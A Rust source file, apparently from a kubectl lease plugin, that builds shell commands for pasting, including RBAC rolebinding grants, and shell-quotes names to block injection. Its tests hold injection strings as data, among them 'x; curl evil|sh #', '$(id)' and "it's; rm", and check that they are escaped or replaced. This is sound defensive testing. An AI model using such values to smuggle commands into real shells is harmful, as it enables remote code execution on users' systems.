//! Commands that are printed to be pasted into a shell.

use kube_leases::rules::{identity, maintenance};

/// A text with the flags that its commands take to reach a cluster.
pub fn with_flags(text: &str, flags: &str) -> String {
    if flags.is_empty() {
        return text.to_owned();
    }
    let mut parts = text.split("kubectl ");
    let first = parts.next().unwrap_or_default().to_owned();
    // kubectl itself takes no flags before the name of a plugin.
    parts.fold(first, |text, part| match part.strip_prefix("lease ") {
        Some(rest) => format!("{text}kubectl lease {flags} {rest}"),
        None => format!("{text}kubectl {flags} {part}"),
    })
}

/// How `docs/rbac.yaml` means a command's roles to be bound to a user: commands to type.
pub fn grants(command: &str, user: &str, typed: Option<&str>, current: &str) -> Vec<String> {
    let bind = |kind: &str, role: &str, namespace: Option<&str>| {
        let (binding, place) = match namespace {
            Some(namespace) => ("rolebinding", format!(" -n {}", quoted(namespace))),
            None => ("clusterrolebinding", String::new()),
        };
        // No object's name has these.
        let name = quoted(&format!("kubectl-lease-{role}:{}", user.replace(['/', '%'], "-")));
        let user = quoted(user);
        format!("kubectl create {binding} {name}{place} --{kind}=kubectl-lease-{role} --user={user}")
    };
    let maint = || {
        [bind("role", "maint", Some(maintenance::NAMESPACE)), bind("clusterrole", "maint", None)].into_iter()
    };
    match command {
        "apiservers" => vec![bind("role", "apiservers", Some(identity::NAMESPACE))],
        "set-priority" => {
            vec![bind("clusterrole", "candidates", typed), bind("clusterrole", "priority", typed)]
        }
        "maint" => maint().collect(),
        "medik8s" => vec![bind("clusterrole", "medik8s", Some(maintenance::MEDIK8S_NAMESPACE))],
        "hold" => vec![bind("clusterrole", "hold", Some(current))],
        "force-delete" => {
            vec![bind("clusterrole", "force-delete", Some(current)), bind("clusterrole", "partitions", None)]
        }
        "fence" => {
            let others = ["partitions", "fence"].map(|role| bind("clusterrole", role, None));
            maint().chain(others).collect()
        }
        "candidates" => vec![bind("clusterrole", "candidates", typed)],
        // What these look at is partly in no namespace.
        _ => vec![bind("clusterrole", command, None)],
    }
}

/// A name in a command to paste, or a placeholder for one that a shell would not take as it is. The API takes
/// anything for the name of the lease that a candidate is for, and nearly anything for that of a candidate.
pub fn pasted<'a>(name: &'a str, placeholder: &'a str) -> &'a str {
    let is_plain = !name.starts_with('-') && quoted(name) == name;
    if is_plain { name } else { placeholder }
}

/// A word as a shell takes it.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/@".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_pasted_meets_the_same_cluster() {
        for (command, reached) in [
            ("kubectl delete pod x", "kubectl --context=b delete pod x"),
            ("kubectl lease fence n", "kubectl lease --context=b fence n"),
            ("echo '{}' | kubectl create -f -", "echo '{}' | kubectl --context=b create -f -"),
            ("kubectl a && kubectl lease b", "kubectl --context=b a && kubectl lease --context=b b"),
            ("crictl ps", "crictl ps"),
        ] {
            assert_eq!(with_flags(command, "--context=b"), reached);
            assert_eq!(with_flags(command, ""), command);
        }
    }

    #[test]
    fn a_name_that_a_shell_would_run_is_in_no_command() {
        for name in ["kube-scheduler", "cp-1_6a1f", "example.com"] {
            assert_eq!(pasted(name, "LEASE"), name);
        }
        for name in ["x; curl evil|sh #", "$(id)", "a b", "a\nb", "it's", "--all", ""] {
            assert_eq!(pasted(name, "LEASE"), "LEASE", "{name:?}");
        }
    }

    #[test]
    fn a_grant_can_be_typed_for_any_user() {
        let one = |command: &str, user: &str, typed| grants(command, user, typed, "shop").remove(0);
        assert_eq!(
            one("hold", "jane", None),
            "kubectl create rolebinding kubectl-lease-hold:jane -n shop --clusterrole=kubectl-lease-hold --user=jane"
        );
        assert_eq!(
            one("leaders", "it's; rm", None),
            r"kubectl create clusterrolebinding 'kubectl-lease-leaders:it'\''s; rm' --clusterrole=kubectl-lease-leaders --user='it'\''s; rm'"
        );
        assert!(
            one("candidates", "jane", Some("a b"))
                .contains("rolebinding kubectl-lease-candidates:jane -n 'a b' ")
        );
        assert!(one("leaders", "https://idp/x#1", None).contains("'kubectl-lease-leaders:https:--idp-x#1' "));
    }

    /// The kind of role, its name, and the namespace it is bound in.
    #[test]
    fn the_roles_of_each_command_are_bound_where_it_works() {
        const MAINT: &[(&str, &str, Option<&str>)] =
            &[("role", "maint", Some("kube-node-maintenance")), ("clusterrole", "maint", None)];
        let partitions = ("clusterrole", "partitions", None);
        for (command, typed, roles) in [
            ("apiservers", None, vec![("role", "apiservers", Some("kube-system"))]),
            ("candidates", None, vec![("clusterrole", "candidates", None)]),
            ("candidates", Some("a"), vec![("clusterrole", "candidates", Some("a"))]),
            (
                "set-priority",
                Some("a"),
                vec![("clusterrole", "candidates", Some("a")), ("clusterrole", "priority", Some("a"))],
            ),
            ("leaders", Some("a"), vec![("clusterrole", "leaders", None)]),
            ("maint", None, MAINT.to_vec()),
            ("medik8s", None, vec![("clusterrole", "medik8s", Some("medik8s-leases"))]),
            ("hold", None, vec![("clusterrole", "hold", Some("shop"))]),
            ("partitions", None, vec![partitions]),
            ("force-delete", None, vec![("clusterrole", "force-delete", Some("shop")), partitions]),
            ("fence", None, [MAINT, &[partitions, ("clusterrole", "fence", None)]].concat()),
        ] {
            let expected: Vec<_> = roles
                .into_iter()
                .map(|(kind, role, namespace)| {
                    let binding = if namespace.is_some() { "rolebinding" } else { "clusterrolebinding" };
                    let place = namespace.map_or_else(String::new, |namespace| format!(" -n {namespace}"));
                    format!(
                        "kubectl create {binding} kubectl-lease-{role}:jane{place} --{kind}=kubectl-lease-{role} --user=jane"
                    )
                })
                .collect();
            assert_eq!(grants(command, "jane", typed, "shop"), expected, "{command}");
        }
    }
}
